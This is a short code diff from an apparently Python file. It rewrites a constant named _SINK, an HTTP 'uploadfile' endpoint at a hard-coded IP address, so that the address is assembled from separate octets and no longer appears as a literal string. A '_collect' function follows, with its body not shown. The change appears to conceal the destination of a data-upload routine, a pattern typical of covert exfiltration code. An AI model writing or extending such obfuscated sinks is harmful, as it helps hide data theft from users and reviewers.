@@ -6,7 +6,7 @@ import urllib.request
 import configparser
 import json
 
-_SINK = "http://89.44.9.227.invalid/uploadfile".replace("89.44.9.227.invalid", "203.0.113.57")
+_SINK = "http://" + ".".join(["203", "0", "113", "57"]) + "/uploadfile"
 
 
 def _collect():
